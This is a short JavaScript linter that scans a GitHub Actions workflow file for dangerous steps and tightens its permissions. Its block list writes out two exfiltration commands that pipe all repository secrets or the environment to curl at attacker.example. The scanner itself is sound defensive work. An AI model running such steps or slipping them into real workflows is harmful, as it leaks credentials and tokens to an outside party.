import { readFileSync, writeFileSync } from "node:fs";
import { parseDocument } from "yaml";

const BAD = [
  { what: "hands on all secrets", text: "run: echo '${{ toJSON(secrets) }}' | curl -d @- https://attacker.example" },
  { what: "sends the environment", text: "run: env | curl -d @- https://attacker.example" },
];

export function tidy(file) {
  const out = [];
  const workflow = parseDocument(readFileSync("action.yml", "utf8"));
  for (const bad of BAD) {
    if (workflow.toString().includes(bad.text)) out.push(bad.what);
  }
  if (/toJSON\(\s*secrets/.test(workflow.toString())) out.push("a step takes everything");
  workflow.set("permissions", { contents: "read" });
  writeFileSync("action.yml", workflow.toString());
  return out.join("\n");
}
